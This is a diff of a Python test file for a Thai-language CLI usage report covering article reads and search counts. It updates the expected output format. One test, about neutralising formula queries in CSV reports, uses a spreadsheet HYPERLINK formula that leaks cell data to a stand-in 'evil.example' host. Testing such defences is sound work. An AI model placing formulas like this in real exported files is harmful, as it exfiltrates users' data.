@@ -186,7 +186,7 @@ def test_cli_report_numbers_equal_what_was_recorded(make_app, built, db, tmp_pat
     assert nxt[("การเข้าถึง", "อ่านบทความ", "")] == "1" and nxt[("คำค้นที่ไม่พบเอกสาร", "ดาวอังคาร", "")] == "1"
 
     md = CliRunner().invoke(cli, [*args, "--fiscal-year", "2567"])
-    assert "รวม 9 ครั้ง (อ่านบทความ 5; ค้นหา 4)" in md.output and "| ดาวอังคาร | 2 |" in md.output
+    assert "รวม 9 ครั้ง (อ่านบทความ 5; ค้นหา 4)" in md.output and "- ดาวอังคาร — ครั้ง: 2" in md.output
     hidden = CliRunner().invoke(cli, [*args, "--fiscal-year", "2567", "--no-queries"])
     assert "ดาวอังคาร" not in hidden.output
 
@@ -257,7 +257,7 @@ def test_cli_csv_report_neutralises_a_formula_query(make_app, built, db):
         )
         .output
     )
-    assert '| =hyperlink\\("http://evil.example/?leak="&amp;a1,"x"\\) | 1 |' in md
+    assert '- =hyperlink("http://evil.example/?leak="&a1,"x") — ครั้ง: 1' in md
 
 
 def test_sign_out_needs_the_form_of_the_dashboard(make_app, db):
